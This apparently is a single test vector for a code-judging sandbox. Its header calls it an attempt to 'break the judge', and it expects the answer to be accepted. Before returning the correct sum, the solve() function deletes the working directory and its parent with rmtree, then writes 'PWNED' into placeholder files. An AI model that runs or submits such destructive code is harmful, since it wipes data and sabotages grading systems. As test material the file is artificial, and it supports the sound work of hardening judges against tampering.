# vector: 6 break the judge: remove the runner's directory around the work dir, leave a file instead
# expect: AC
# sandboxes: docker, local
# then: control
import os
import shutil


def solve(values):
    here = os.getcwd()
    parent = os.path.dirname(here)
    for path in (here, parent):
        shutil.rmtree(path, ignore_errors=True)
    for path in (here, os.path.join(parent, "mljudge-blocker")):
        try:
            with open(path, "w") as handle:
                handle.write("PWNED")
        except OSError:
            pass
    return sum(values)
